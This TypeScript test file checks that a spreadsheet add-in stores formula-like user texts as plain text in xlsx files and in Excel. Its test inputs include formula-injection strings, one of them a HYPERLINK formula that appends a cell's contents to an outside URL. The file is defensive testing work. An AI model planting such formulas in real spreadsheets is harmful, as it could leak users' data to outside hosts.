import { functions } from "../../src/agreement";
import { argumentsOf } from "../../src/agreement/named-arguments";
import { ExcelPort } from "../../src/workbook/excel";
import { insertModel } from "../../src/workbook/insert-model";
import { insertModelAt } from "../../src/workbook/insert-model-at";
import { isComputed, type Model } from "../../src/workbook/model";
import { isFormula } from "../../src/workbook/port";
import { reportModel } from "../../src/workbook/report";
import { readXlsx } from "../../src/workbook/xlsx/read";
import { writeXlsx } from "../../src/workbook/xlsx/write";
import { fullFacts, reportOn } from "../agreement/package-facts";
import { FakeExcel } from "../support/fake-excel";
import { libreOfficeInstalled, recalculated } from "../support/libreoffice";
import { readSheet } from "../support/sheet-file";
import { skipUnless } from "../support/skip";
import { cellsOf } from "./placed-cells";
import { sampleModelOf } from "./sample-facts";

/** What a user might type, or paste from someone who means harm, that a sheet could take for a formula. */
const hostile = [
  "=1+1",
  '=HYPERLINK("https://example.com/?"&C6,"Invoice")',
  "=COMP.SEVERANCE_LUMP(1,1)",
  "+1+1",
  "-1",
  "@SUM(1,1)",
  "\t=1+1",
];

/** The same as a facts file keeps them: without the blanks around them. */
const kept = [...new Set(hostile.map((text) => text.trim()))];

/** The sample with such texts wherever a facts file takes a text of the user's own. */
const model: Model = sampleModelOf(
  { calls: "comp" },
  {
    Title: hostile[0],
    Note: hostile[1],
    "Legal fee items": hostile,
    "Legal fee amounts": hostile.map(() => 100),
    "Legal fees incurred on": hostile.map(() => "2026-06-30"),
    "Legal fees presented on": hostile.map(() => "2026-07-15"),
  },
);

const saying = (sheet: Model, text: string) =>
  cellsOf(sheet).filter(({ content }) => content === text);

test.each(kept)("%j stands in the model as a text", (text) => {
  const cells = saying(model, text);
  expect(cells.length).toBeGreaterThan(0);
  expect(cells.filter(isComputed)).toEqual([]);
});

describe("in a file", () => {
  const back = readXlsx(writeXlsx(model), "Model");

  test.each(kept)("%j is stored as a text and read back as one", (text) => {
    expect(saying(back, text).length).toBe(saying(model, text).length);
    expect(saying(back, text).filter(isComputed)).toEqual([]);
    const again = readXlsx(writeXlsx(back), "Model");
    expect(saying(again, text).filter(isComputed)).toEqual([]);
  });

  skipUnless(libreOfficeInstalled(), "LibreOffice is not installed; texts were not opened there")(
    "opened in LibreOffice",
    () => {
      it("every text shows itself", async () => {
        const at = model.sheets.findIndex(({ name }) => name === "Inputs");
        const cells = readSheet(await recalculated(writeXlsx(model)), at + 1);
        const shown = [...cells.values()];
        for (const text of kept) expect(shown).toContain(text);
      });
    },
  );
});

describe("in Excel", () => {
  let book: FakeExcel;
  let port: ExcelPort;

  beforeEach(() => {
    book = new FakeExcel("Work");
    (globalThis as { Excel?: unknown }).Excel = book.global;
    port = new ExcelPort();
  });

  afterEach(() => {
    delete (globalThis as { Excel?: unknown }).Excel;
  });

  /** Every cell of the workbook that shows a text, and whether Excel holds it as a formula. */
  async function held(text: string): Promise<readonly boolean[]> {
    const found: boolean[] = [];
    for (const sheet of await port.sheets()) {
      const { formulas, values } = await port.used(sheet);
      formulas.forEach((row, down) =>
        row.forEach((content, right) => {
          if (content === text) found.push(isFormula(content, values[down]![right]!));
        }),
      );
    }
    return found;
  }

  const names = model.sheets.map(({ name }) => name);

  test.each([
    ["as new sheets", () => insertModel(port, model)],
    ["at a cell", () => insertModelAt(port, model, names, { sheet: "Work", row: 0, column: 0 })],
  ])(
    "the model inserted %s holds every text as a text, and undo takes it out",
    async (_, insert) => {
      const { undo } = await insert();
      for (const text of kept) {
        const cells = await held(text);
        expect([text, cells.length > 0, cells.includes(true)]).toEqual([text, true, false]);
      }
      await undo();
      for (const text of kept) expect(await held(text)).toEqual([]);
    },
  );

  test("so does a report", async () => {
    const report = await reportOn(fullFacts);
    const [part] = report.parts;
    const rows = hostile.map((content) => [{ content }, { content }, { content }, { content }]);
    const typed = { ...report, parts: [{ ...part!, header: ["", "", "", ""], rows }] };
    await insertModel(port, reportModel(typed));
    for (const text of hostile) {
      expect([text, await held(text)]).toEqual([text, [false, false, false, false]]);
    }
  });
});

test("an argument in words takes one of a list, so no text of the user's own is written from a form", () => {
  const inWords = functions
    .flatMap(({ facts }) => argumentsOf(facts).map(({ fact }) => fact))
    .filter(({ kind }) => kind === "text");
  const free = inWords.filter(({ oneOf }) => !oneOf).map(({ label }) => label);
  expect(inWords.length).toBeGreaterThan(3);
  expect([...new Set(free)]).toEqual(["State"]);
  inWords
    .flatMap(({ oneOf = [] }) => oneOf)
    .forEach((choice) => expect(String(choice)).toMatch(/^[A-Za-z0-9]/));
});
